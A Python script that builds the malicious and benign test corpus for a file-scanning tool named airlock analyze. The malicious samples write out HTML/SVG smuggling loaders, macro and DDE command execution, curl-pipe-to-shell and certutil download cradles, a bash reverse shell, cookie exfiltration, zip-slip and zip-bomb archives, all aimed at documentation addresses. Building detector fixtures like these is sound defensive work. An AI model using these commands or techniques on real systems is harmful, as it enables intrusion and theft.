#!/usr/bin/env python3
# Builds the test corpus of airlock analyze: malicious-looking samples (no real malware: the
# "programs" are headers and padding, the commands point at documentation addresses) and
# benign files of the same kinds. Usage: analyze-corpus.py OUTDIR
# Writes OUTDIR/malicious/* and OUTDIR/benign/*; needs zip, 7z and genisoimage for some.
import base64
import gzip
import bz2
import io
import lzma
import os
import random
import shutil
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib

out = sys.argv[1]
MAL = os.path.join(out, "malicious")
BEN = os.path.join(out, "benign")
WORK = os.path.join(out, "work")
for d in (MAL, BEN, WORK):
    os.makedirs(d, exist_ok=True)
rng = random.Random(1048)  # M1048: the corpus is the same on every run


def put(folder, name, data, mode=0o644):
    path = os.path.join(folder, name)
    with open(path, "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())
    os.chmod(path, mode)
    return path


def noise(n):
    return bytes(rng.getrandbits(8) for _ in range(n))


# A fake Windows program: an MZ/PE header and random bytes. It does not run anywhere.
def fake_pe(n=6000):
    hdr = bytearray(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48)
    struct.pack_into("<I", hdr, 0x3C, 0x80)
    body = bytearray(hdr + b"\x00" * (0x80 - len(hdr)))
    body += b"PE\x00\x00\x4c\x01\x03\x00" + b"\x00" * 12 + b"\xe0\x00\x02\x01"
    return bytes(body) + b"This program cannot be run in DOS mode.\r\n" + noise(n)


def elf_bytes():
    with open("/bin/true", "rb") as f:
        return f.read()


def zip_bytes(members, compression=zipfile.ZIP_DEFLATED):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", compression) as z:
        for name, data in members:
            z.writestr(name, data)
    return b.getvalue()


def b64(data):
    return base64.b64encode(data).decode()


# ---------------------------------------------------------------- HTML smuggling pages
PAYLOAD = fake_pe(9000)
PAYLOAD_ZIP = zip_bytes([("invoice.exe", fake_pe(5000))])
XPAD = noise(4000)  # a payload without a known header (encrypted-looking)


def page(body, title="Invoice"):
    return ("<!DOCTYPE html>\n<html><head><meta charset='utf-8'><title>%s</title></head>\n"
            "<body>\n<p>Your document is downloading...</p>\n%s\n</body></html>\n" % (title, body))


smuggling = {
    "smug-atob-blob.html": page("""<script>
var b = atob("%s");
var a = new Uint8Array(b.length);
for (var i = 0; i < b.length; i++) a[i] = b.charCodeAt(i);
var blob = new Blob([a], {type: "application/octet-stream"});
var l = document.createElement("a");
l.href = URL.createObjectURL(blob);
l.download = "Invoice_2291.exe";
document.body.appendChild(l);
l.click();
</script>""" % b64(PAYLOAD)),
    "smug-mssave.html": page("""<script>
var d = atob('%s'), u = new Uint8Array(d.length);
for (var i = 0; i < d.length; i++) u[i] = d.charCodeAt(i);
var f = new Blob([u]);
if (window.navigator.msSaveOrOpenBlob) window.navigator.msSaveOrOpenBlob(f, 'scan.zip');
</script>""" % b64(PAYLOAD_ZIP)),
    "smug-charcodes.html": page("""<script>
var c = [%s];
var s = String.fromCharCode.apply(null, c);
var arr = new Uint8Array(c);
var x = URL.createObjectURL(new Blob([arr]));
var a = document.createElement('a'); a.href = x; a.download = 'report.exe'; a.click();
</script>""" % ",".join(str(b) for b in PAYLOAD[:3000])),
    "smug-hex.html": page("""<script>
var h = "%s";
var o = new Uint8Array(h.length / 2);
for (var i = 0; i < h.length; i += 2) o[i / 2] = parseInt(h.substr(i, 2), 16);
var a = document.createElement("a");
a.href = window.URL.createObjectURL(new Blob([o], {type: "application/zip"}));
a.download = "statement.zip"; a.click();
</script>""" % PAYLOAD_ZIP.hex()),
    "smug-reversed.html": page("""<script>
var r = "%s";
var s = atob(r.split("").reverse().join(""));
var u = new Uint8Array(s.length); for (var i = 0; i < s.length; i++) u[i] = s.charCodeAt(i);
var el = document.createElement("a"); el.download = "update.exe";
el.href = URL.createObjectURL(new Blob([u])); el.click();
</script>""" % b64(PAYLOAD)[::-1]),
    "smug-chunks.html": page("""<script>
var p = "" +
%s;
var bin = window.atob(p);
var bytes = new Uint8Array(bin.length); for (var i = 0; i < bin.length; i++) bytes[i] = bin.charCodeAt(i);
var link = document.createElement("a"); link.setAttribute("download", "doc.exe");
link.href = URL.createObjectURL(new Blob([bytes.buffer])); link.click();
</script>""" % " +\n".join('"%s"' % b64(PAYLOAD)[i:i + 76] for i in range(0, len(b64(PAYLOAD)), 76))),
    "smug-obfuscated-names.html": page("""<script>
var w = window, k = 'at' + 'ob', B = w['Bl' + 'ob'], U = w['U' + 'RL'];
var q = w[k]('%s');
var z = new w['Uint8' + 'Array'](q.length); for (var i = 0; i < q.length; i++) z[i] = q['char' + 'CodeAt'](i);
var e = document.createElement('a'); e['down' + 'load'] = 'fax.exe'; e.download = 'fax.exe';
e.href = U['createObject' + 'URL'](new B([z])); e.dispatchEvent(new MouseEvent('click'));
</script>""" % b64(PAYLOAD)),
    "smug-data-uri.html": page("""<a id="x" download="Invoice.zip" href="data:application/octet-stream;base64,%s">Download your invoice</a>""" % b64(PAYLOAD_ZIP)),
    "smug-escapes.html": page("""<script>
var s = unescape("%s");
var u = new Uint8Array(s.length); for (var i = 0; i < s.length; i++) u[i] = s.charCodeAt(i);
var a = document.createElement('a'); a.download = 'a.exe'; a.href = URL.createObjectURL(new Blob([u])); a.click();
</script>""" % "".join("%%%02X" % b for b in PAYLOAD[:2000])),
    "smug-xor.html": page("""<script>
var k = 0x5a, d = [%s];
var o = new Uint8Array(d.length); for (var i = 0; i < d.length; i++) o[i] = d[i] ^ k;
var t = String.fromCharCode(o[0]);
var a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([o])); a.download = 'x.iso'; a.click();
</script>""" % ",".join(str(b ^ 0x5A) for b in XPAD[:2000])),
    "smug-location.html": page("""<script>
var raw = atob("%s"); var buf = new Uint8Array(raw.length);
for (var i = 0; i < raw.length; i++) buf[i] = raw.charCodeAt(i);
window.location.href = URL.createObjectURL(new Blob([buf], {type: 'application/x-msdownload'}));
</script>""" % b64(XPAD)),
    "smug-hidden-element.html": page("""<div id="p" style="display:none">%s</div>
<script>
var t = document.getElementById('p').innerText, s = atob(t), u = new Uint8Array(s.length);
for (var i = 0; i < s.length; i++) u[i] = s.charCodeAt(i);
var a = document.createElement('a'); a.download = 'remittance.zip';
a.href = URL.createObjectURL(new Blob([u])); document.body.appendChild(a); a.click();
</script>""" % b64(PAYLOAD_ZIP)),
    # A payload too small for the size test: an HTA of a few hundred bytes.
    "smug-small-hta.html": page("""<script>
var s = atob("%s"), u = new Uint8Array(s.length);
for (var i = 0; i < s.length; i++) u[i] = s.charCodeAt(i);
var a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([u]));
a.download = 'scan.hta'; document.body.appendChild(a); a.click();
</script>""" % b64(b'<html><head><script language="VBScript">CreateObject("WScript.Shell").Run "calc.exe"</script></head></html>')),
    "smug-eval-loader.html": page("""<script>eval(atob("%s"));</script>""" % b64(
        ("var x='" + b64(XPAD) + "';document.title='ok';").encode())),
}
for name, text in smuggling.items():
    put(MAL, name, text)

# ---------------------------------------------------------------- SVG smuggling
svg_head = '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200">\n'
put(MAL, "svg-script-blob.svg", svg_head + """<rect width="200" height="200" fill="#eee"/>
<script type="text/javascript"><![CDATA[
var d = atob("%s"), u = new Uint8Array(d.length);
for (var i = 0; i < d.length; i++) u[i] = d.charCodeAt(i);
var a = document.createElementNS("http://www.w3.org/1999/xhtml", "a");
a.href = URL.createObjectURL(new Blob([u])); a.download = "invoice.zip"; a.click();
]]></script>
</svg>
""" % b64(PAYLOAD_ZIP))
put(MAL, "svg-onload-redirect.svg", svg_head.replace("height=\"200\">", "height=\"200\" onload=\"window.location='https://phish.example/login?u='+document.domain\">") + "<circle cx='100' cy='100' r='50'/>\n</svg>\n")
put(MAL, "svg-javascript-link.svg", svg_head + '<a xlink:href="javascript:fetch(\'https://x.example/\'+document.cookie)"><text x="10" y="20">View document</text></a>\n</svg>\n')
put(MAL, "svg-foreign-form.svg", svg_head + '<foreignObject width="200" height="200"><form xmlns="http://www.w3.org/1999/xhtml" action="https://phish.example/"><input name="password" type="password"/></form></foreignObject>\n</svg>\n')
put(MAL, "svg-data-link.svg", svg_head + '<a href="data:text/html;base64,%s"><rect width="90" height="30"/></a>\n</svg>\n' % b64(b"<script>location='https://x.example'</script>"))

# ---------------------------------------------------------------- Office
CT_DOCX = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
           '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
           '<Default Extension="xml" ContentType="application/xml"/>'
           '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>%s</Types>')
RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>')


def document_xml(body):
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            '<w:body>%s</w:body></w:document>' % body)


def para(text):
    return "<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % text


def ole_with_vba(code):
    # An OLE compound file header and the markers of a VBA project; enough for scanners.
    hdr = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff\x09\x00"
    hdr += b"\x00" * (512 - len(hdr))
    return hdr + "_VBA_PROJECT".encode("utf-16-le") + b"\x00" * 64 + code.encode() + noise(1500)


MACRO = ('Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n  Dim s\r\n'
         '  s = Shell("powershell -w hidden -c iwr https://198.51.100.20/a -o $env:TEMP\\a.exe", 0)\r\nEnd Sub\r\n')
put(MAL, "invoice.docm", zip_bytes([
    ("[Content_Types].xml", CT_DOCX % '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
    ("_rels/.rels", RELS),
    ("word/document.xml", document_xml(para("Enable content to see this invoice."))),
    ("word/vbaProject.bin", ole_with_vba(MACRO)),
]))
put(MAL, "budget.xlsm", zip_bytes([
    ("[Content_Types].xml", CT_DOCX.replace("word/document.xml", "xl/workbook.xml") % '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
    ("xl/workbook.xml", "<workbook/>"),
    ("xl/vbaProject.bin", ole_with_vba(MACRO.replace("AutoOpen", "Workbook_Open"))),
]))
put(MAL, "legacy-macro.doc", ole_with_vba(MACRO.replace("AutoOpen", "Document_Open")))
put(MAL, "dde.docx", zip_bytes([
    ("[Content_Types].xml", CT_DOCX % ""), ("_rels/.rels", RELS),
    ("word/document.xml", document_xml(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')),
]))
put(MAL, "dde-fldsimple.docx", zip_bytes([
    ("[Content_Types].xml", CT_DOCX % ""), ("_rels/.rels", RELS),
    ("word/document.xml", document_xml('<w:p><w:fldSimple w:instr=\'DDE "c:\\\\windows\\\\system32\\\\cmd.exe" "/c notepad"\'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')),
]))
put(MAL, "orders.csv", "id,item,total\n1,paper,3\n=cmd|' /C calc'!A0,2,2\n")
put(MAL, "dde.rtf", "{\\rtf1\\ansi{\\field{\\*\\fldinst DDEAUTO \"C:\\\\Programs\\\\cmd.exe\" \"/c calc\"}{\\fldrslt x}}}\n")

# ---------------------------------------------------------------- PDF


def pdf(objects):
    outp = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for i, o in enumerate(objects, 1):
        offsets.append(len(outp))
        outp += b"%d 0 obj\n" % i + o.encode() + b"\nendobj\n"
    x = len(outp)
    outp += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        outp += b"%010d 00000 n \n" % off
    outp += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, x)
    return outp


PAGES = ["<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
         "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
         "<< /Length 44 >>\nstream\nBT /F1 12 Tf 72 712 Td (Hello) Tj ET\nendstream"]
put(MAL, "js-openaction.pdf", pdf(["<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"] + PAGES +
                                   ["<< /S /JavaScript /JS (app.launchURL\\('https://x.example/'\\);) >>"]))
put(MAL, "launch.pdf", pdf(["<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"] + PAGES +
                           ["<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"]))
put(MAL, "embedded.pdf", pdf(["<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >> /OpenAction << /S /GoToE /NewWindow true /T << /R /C /N (a.exe) >> >> >>"] + PAGES +
                             ["<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
                              "<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x00\x00\nendstream"]))
put(MAL, "obfuscated-names.pdf", pdf(["<< /Type /Catalog /Pages 2 0 R /Open#41ction 5 0 R >>"] + PAGES +
                                     ["<< /S /J#61vaScript /JS (this.print\\(\\)) >>"]))
put(MAL, "names-js.pdf", pdf(["<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 5 0 R >> >>"] + PAGES +
                             ["<< /Names [(a) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >>"]))

# ---------------------------------------------------------------- scripts
put(MAL, "install.sh", "#!/bin/sh\n# quick installer\ncurl -fsSL http://198.51.100.7/setup.sh | sh\n", 0o755)
put(MAL, "dropper.sh", "#!/bin/sh\nwget -q -O /tmp/.cache-x http://198.51.100.7/x\nchmod +x /tmp/.cache-x\n/tmp/.cache-x &\n", 0o755)
put(MAL, "revshell.sh", "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n", 0o755)
put(MAL, "b64-stage.sh", "#!/bin/sh\necho %s | base64 -d | sh\n" % b64(b"id; uname -a; curl http://198.51.100.1/\n"), 0o755)
put(MAL, "loader.py", "import urllib.request\ncode = urllib.request.urlopen('http://198.51.100.9/stage2').read()\nexec(code)\n")
put(MAL, "packed.py", "import base64\nexec(base64.b64decode('%s'))\n" % b64(b"print('hello from a packed payload')\n"))
put(MAL, "cradle.ps1", "$c = New-Object Net.WebClient\nIEX ($c.DownloadString('http://198.51.100.3/a.ps1'))\n")
put(MAL, "run.bat", "@echo off\npowershell.exe -NoP -W Hidden -enc %s\n" % b64("IEX (iwr http://198.51.100.3/a)".encode("utf-16-le")))
put(MAL, "fetch.cmd", "certutil.exe -urlcache -split -f http://198.51.100.4/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe\n")
put(MAL, "dropper.js", 'var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://198.51.100.5/p.exe", false); x.send();\n'
    'var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.Type = 1; s.Write(x.ResponseBody); s.SaveToFile("p.exe", 2);\n'
    'new ActiveXObject("WScript.Shell").Run("p.exe");\n')
put(MAL, "dropper.vbs", 'Set h = CreateObject("WinHttp.WinHttpRequest.5.1")\nh.Open "GET", "http://198.51.100.5/p.exe", False\nh.Send\n'
    'Set s = CreateObject("ADODB.Stream")\ns.Type = 1: s.Open: s.Write h.ResponseBody: s.SaveToFile "p.exe", 2\nCreateObject("WScript.Shell").Run "p.exe"\n')
put(MAL, "update.hta", '<html><head><hta:application id="x" windowstate="minimize"/></head><body><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script></body></html>\n')

# ---------------------------------------------------------------- EICAR (assembled here so that no file in the tree is it)
EICAR = ("X5O!P%@AP[4\\PZX54(P^)7CC)" + "7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").encode()
put(MAL, "eicar.com", EICAR)
put(MAL, "eicar.zip", zip_bytes([("eicar.com", EICAR)]))
put(MAL, "eicar.txt.gz.gz", gzip.compress(gzip.compress(EICAR)))

# ---------------------------------------------------------------- names, types, containers
put(MAL, "statement.pdf.elf", elf_bytes(), 0o755)
put(MAL, "invoice\u202efdp.exe", fake_pe(3000))
put(MAL, "report.pdf", elf_bytes())
put(MAL, "photo.jpg      .scr", fake_pe(2000))
put(MAL, "documents.zip", zip_bytes([("readme.txt", "see attached\n"), ("setup.exe", fake_pe(4000))]))
lnk = (b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + b"\x00" * 56 +
       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -w hidden -c iwr".encode("utf-16-le"))
put(MAL, "shortcut.lnk", lnk)
put(MAL, "shortcut.zip", zip_bytes([("Invoice.pdf.lnk", lnk)]))
put(MAL, "slip.zip", zip_bytes([("../../../../etc/cron.d/airlock-test", "* * * * * root id\n")]))

# encrypted zip (zip -P) and a 7z with a dropper inside
enc_src = put(WORK, "secret.txt", "quarterly numbers\n")
subprocess.run(["zip", "-q", "-j", "-P", "infected", os.path.join(MAL, "encrypted.zip"), enc_src], check=True)
js_src = put(WORK, "order.js", open(os.path.join(MAL, "dropper.js")).read())
subprocess.run(["7z", "a", "-bd", "-bso0", "-bsp0", os.path.join(MAL, "order.7z"), js_src], check=True)
# tar.gz with a download-and-execute script
tgz = io.BytesIO()
with tarfile.open(fileobj=tgz, mode="w:gz") as t:
    data = open(os.path.join(MAL, "install.sh"), "rb").read()
    ti = tarfile.TarInfo("pkg/install.sh")
    ti.size = len(data)
    ti.mode = 0o755
    t.addfile(ti, io.BytesIO(data))
put(MAL, "pkg.tar.gz", tgz.getvalue())

# zip-in-iso-in-zip: an ISO (made with genisoimage) holding a zip with a program, mailed as a zip
iso_dir = os.path.join(WORK, "isoroot")
os.makedirs(iso_dir, exist_ok=True)
put(iso_dir, "payload.zip", zip_bytes([("Invoice.exe", fake_pe(4000))]))
iso_path = os.path.join(WORK, "disk.iso")
subprocess.run(["genisoimage", "-quiet", "-J", "-R", "-o", iso_path, iso_dir], check=True)
iso = open(iso_path, "rb").read()
put(MAL, "zip-in-iso-in-zip.zip", zip_bytes([("Shipment.iso", iso)]))
put(MAL, "delivery.iso", iso)
# a zip bomb: 64 MiB of zeros deflate to about 64 KiB (ratio ~1000:1)
bomb = io.BytesIO()
with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
    z.writestr("zeros.bin", b"\x00" * (64 << 20))
put(MAL, "bomb.zip", bomb.getvalue())
# an archive deeper than the nesting limit (each level a zip)
deep = zip_bytes([("inner.txt", "deep\n")])
for i in range(12):
    deep = zip_bytes([("level%d.zip" % i, deep)], zipfile.ZIP_STORED)
put(MAL, "deep-nesting.zip", deep)

# ================================================================= benign
put(BEN, "plain.html", page("<h1>Welcome</h1><p>Nothing to see here.</p>", "Home"))
put(BEN, "scripts.html", page("""<script>
document.addEventListener('DOMContentLoaded', function () {
  var items = ['a', 'b', 'c'];
  var ul = document.createElement('ul');
  items.forEach(function (t) { var li = document.createElement('li'); li.textContent = t; ul.appendChild(li); });
  document.body.appendChild(ul);
});
</script>""", "List"))
put(BEN, "csv-export.html", page("""<button id="e">Export CSV</button>
<script>
document.getElementById('e').onclick = function () {
  var rows = [['name', 'qty'], ['apples', 3], ['pears', 5]];
  var csv = rows.map(function (r) { return r.join(','); }).join('\\n');
  var blob = new Blob([csv], {type: 'text/csv'});
  var a = document.createElement('a');
  a.href = URL.createObjectURL(blob); a.download = 'fruit.csv'; a.click();
};
</script>""", "Export"))
png_rows = b"".join(b"\x00" + bytes(rng.getrandbits(8) for _ in range(96)) for _ in range(32))
PNG = (b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + struct.pack(">IIBBBBB", 32, 32, 8, 2, 0, 0, 0) +
       struct.pack(">I", zlib.crc32(b"IHDR" + struct.pack(">IIBBBBB", 32, 32, 8, 2, 0, 0, 0))))
idat = zlib.compress(png_rows)
PNG += struct.pack(">I", len(idat)) + b"IDAT" + idat + struct.pack(">I", zlib.crc32(b"IDAT" + idat))
PNG += struct.pack(">I", 0) + b"IEND" + struct.pack(">I", zlib.crc32(b"IEND"))
put(BEN, "inline-image.html", page('<img alt="logo" src="data:image/png;base64,%s">' % b64(PNG * 2), "Logo"))
put(BEN, "fetch-json.html", page("""<script>
fetch('/api/items').then(function (r) { return r.json(); }).then(function (j) {
  document.getElementById('out').textContent = JSON.stringify(j);
});
</script><pre id="out"></pre>""", "API"))
put(BEN, "download-link.html", page('<a href="/files/manual.pdf" download>Download the manual</a>', "Manual"))
put(BEN, "webfont.html", "<!DOCTYPE html><html><head><style>@font-face{font-family:x;src:url(data:font/woff2;base64,%s)}</style></head><body>Text</body></html>\n" % b64(noise(6000)))
put(BEN, "library.js", "(function(g){'use strict';function t(a,b){return a+b}function m(x){return x.map(function(v){return v*2})}g.lib={t:t,m:m,version:'1.2.3'}})(this);\n" * 20)
put(BEN, "icon-home.svg", svg_head + '<path d="M10 100 L100 10 L190 100 Z" fill="#336"/>\n</svg>\n')
put(BEN, "icon-gradient.svg", svg_head + '<defs><linearGradient id="g"><stop offset="0" stop-color="#f00"/><stop offset="1" stop-color="#00f"/></linearGradient></defs><circle cx="100" cy="100" r="80" fill="url(#g)"/>\n</svg>\n')
put(BEN, "icon-text.svg", svg_head + '<text x="20" y="100" font-size="30">airlock</text>\n</svg>\n')
put(BEN, "icon-styled.svg", svg_head + '<style>.a{fill:#393}</style><rect class="a" x="20" y="20" width="160" height="160" rx="20"/>\n</svg>\n')
put(BEN, "icon-link.svg", svg_head + '<a href="https://example.org/"><rect width="50" height="50"/></a>\n</svg>\n')
put(BEN, "simple.pdf", pdf(["<< /Type /Catalog /Pages 2 0 R >>"] + PAGES))
put(BEN, "zoom-openaction.pdf", pdf(["<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /XYZ null null 1.5] >>"] + PAGES))
put(BEN, "links.pdf", pdf(["<< /Type /Catalog /Pages 2 0 R >>"] + PAGES[:1] +
                          ["<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Annots [5 0 R] >>", PAGES[2],
                           "<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://example.org/) >> >>"]))
put(BEN, "letter.docx", zip_bytes([("[Content_Types].xml", CT_DOCX % ""), ("_rels/.rels", RELS),
                                   ("word/document.xml", document_xml(para("Dear reader,") + para("Thank you.")))]))
put(BEN, "hyperlink.docx", zip_bytes([("[Content_Types].xml", CT_DOCX % ""), ("_rels/.rels", RELS),
                                      ("word/document.xml", document_xml('<w:p><w:r><w:instrText xml:space="preserve"> HYPERLINK "https://example.org/" </w:instrText></w:r></w:p>'))]))
put(BEN, "sheet.xlsx", zip_bytes([("[Content_Types].xml", CT_DOCX.replace("word/document.xml", "xl/workbook.xml") % ""),
                                  ("xl/workbook.xml", "<workbook><sheets><sheet name='a'/></sheets></workbook>")]))
put(BEN, "slides.pptx", zip_bytes([("[Content_Types].xml", CT_DOCX.replace("word/document.xml", "ppt/presentation.xml") % ""),
                                   ("ppt/presentation.xml", "<presentation/>")]))
put(BEN, "notes.odt", zip_bytes([("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", "<office:document-content/>")], zipfile.ZIP_STORED))
put(BEN, "data.csv", "id,name,total\n" + "".join("%d,item%d,%d\n" % (i, i, i * 7) for i in range(200)))
put(BEN, "texts.zip", zip_bytes([("a.txt", "alpha\n"), ("b.txt", "beta\n"), ("docs/c.md", "# C\n")]))
src = io.BytesIO()
with tarfile.open(fileobj=src, mode="w:gz") as t:
    for n, d in (("proj/main.c", b"#include <stdio.h>\nint main(void){puts(\"hi\");return 0;}\n"),
                 ("proj/Makefile", b"all:\n\tcc -o main main.c\n"), ("proj/build.sh", b"#!/bin/sh\nset -e\nmake\n")):
        ti = tarfile.TarInfo(n)
        ti.size = len(d)
        t.addfile(ti, io.BytesIO(d))
put(BEN, "source.tar.gz", src.getvalue())
xz = io.BytesIO()
with tarfile.open(fileobj=xz, mode="w:xz") as t:
    ti = tarfile.TarInfo("logs/app.log")
    d = b"".join(b"2026-01-01 12:00:%02d INFO request ok\n" % (i % 60) for i in range(500))
    ti.size = len(d)
    t.addfile(ti, io.BytesIO(d))
put(BEN, "logs.tar.xz", xz.getvalue())
put(BEN, "notes.txt.bz2", bz2.compress(b"some notes\n" * 50))
put(BEN, "access.log.gz", gzip.compress(b"127.0.0.1 - - GET / 200\n" * 100))
img_src = put(WORK, "pic.png", PNG)
subprocess.run(["7z", "a", "-bd", "-bso0", "-bsp0", os.path.join(BEN, "pictures.7z"), img_src], check=True)
put(BEN, "hello.c", "#include <stdio.h>\n\nint main(void)\n{\n        printf(\"hello\\n\");\n        return 0;\n}\n")
put(BEN, "fetch_items.py", "import json\nimport requests\n\nr = requests.get('https://api.example.org/items', timeout=10)\nfor item in r.json():\n    print(item['name'])\n")
put(BEN, "git_status.py", "import subprocess\n\nout = subprocess.run(['git', 'status', '--short'], capture_output=True, text=True)\nprint(out.stdout)\n")
put(BEN, "build.sh", "#!/bin/sh\nset -eu\nmeson setup build\nninja -C build\n", 0o755)
put(BEN, "api.sh", "#!/bin/sh\ncurl -s https://api.example.org/status | jq .state\n", 0o755)
put(BEN, "fetch-release.sh", "#!/bin/sh\nset -e\ncurl -LO https://example.org/tool-1.0.tar.gz\nsha256sum -c tool.sha256\ntar xzf tool-1.0.tar.gz\n", 0o755)
put(BEN, "Makefile", "all:\n\tcc -O2 -o hello hello.c\nclean:\n\trm -f hello\n")
put(BEN, "server.js", "const http = require('http');\nhttp.createServer((q, s) => s.end('ok')).listen(8080);\n")
put(BEN, "main.go", "package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"hi\") }\n")
put(BEN, "lib.rs", "pub fn add(a: i32, b: i32) -> i32 { a + b }\n")
put(BEN, "config.yaml", "server:\n  port: 8080\n  hosts: [a, b]\n")
put(BEN, "numbers.json", "{\"samples\": [%s]}\n" % ", ".join(str(rng.randrange(256)) for _ in range(3000)))
put(BEN, "picture.png", PNG)
put(BEN, "anim.gif", b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")
put(BEN, "photo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + noise(3000) + b"\xff\xd9")
put(BEN, "image.bmp", b"BM" + struct.pack("<IHHI", 54 + 48, 0, 0, 54) + struct.pack("<IiiHHIIiiII", 40, 4, 4, 1, 24, 0, 48, 2835, 2835, 0, 0) + noise(48))
put(BEN, "README.md", "# Project\n\nBuild with `make`. See docs/.\n")
put(BEN, "message.eml", "From: a@example.org\nTo: b@example.org\nSubject: lunch\n\nSee you at noon.\n")
put(BEN, "feed.xml", "<?xml version='1.0'?><rss><channel><title>x</title></channel></rss>\n")
# Look-alikes taken from real systems (the shapes of files in /usr/share/doc and
# /usr/lib/python3 that the rules once flagged): words of an attack far apart, or in a list.
put(BEN, "NEWS-python.txt", "Library\n-------\n\n- gh-1234: urllib.request.urlopen() now honours the timeout.\n" +
    "".join("- gh-%d: fixed a corner case in module %d.\n" % (2000 + i, i) for i in range(40)) +
    "- gh-9876: exec() of a code object with free variables raises a clearer error.\n")
put(BEN, "lexer_keywords.py", "KEYWORDS = ('ac asnp cat cd cfs chdir clc clear clhy cli clp cls clv cnsn compare copy cp '\n"
    "            'diff dir dnsn ebp echo epal epcsv epsn erase etsn exsn fc fhx fl foreach ft fw gal gbp gc gci gcm '\n"
    "            'iex ihy ii ipal ipcsv ipmo ipsn irm ise iwmi iwr kill lp ls man md measure mi mount move mp mv')\n"
    "CMDLETS = ('invoke-expression', 'invoke-webrequest', 'downloadstring', 'start-process')\n")
put(BEN, "NEWS-office.txt", "Version 1.2\n\n * The Auto_Close handler of the test documents is gone.\n" +
    "".join(" * Item %d of the release.\n" % i for i in range(30)) +
    " * Scripting: CreateObject() now returns a proxy; Shell() is documented.\n")
put(BEN, "Makefile.dist", "fetch:\n\tcurl -sL -o deps.tar.gz https://example.org/deps.tar.gz\n" +
    "".join("target%d:\n\t$(CC) -c -o t%d.o t%d.c\n" % (i, i, i) for i in range(30)) +
    "install:\n\tchmod 755 $(DESTDIR)/bin/tool\n" +
    "".join("doc%d:\n\tcp doc%d.txt $(DESTDIR)/share/\n" % (i, i) for i in range(30)) +
    "check:\n\t./configure --check && ./run-tests\n")
api_doc = ["<!DOCTYPE html>\n<html><head><title>API</title></head><body>\n<nav>"]
api_doc += ['<a href="#all_documentation_section-number-%s-of-the-manual">x</a>\n' % w
            for w in ("one", "two", "three", "four", "five", "six", "seven", "eight", "nine", "ten") * 12]
api_doc += ['<a href="https://developer.example.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/Uint8Array%d">U</a>\n' % i
            for i in range(30)]
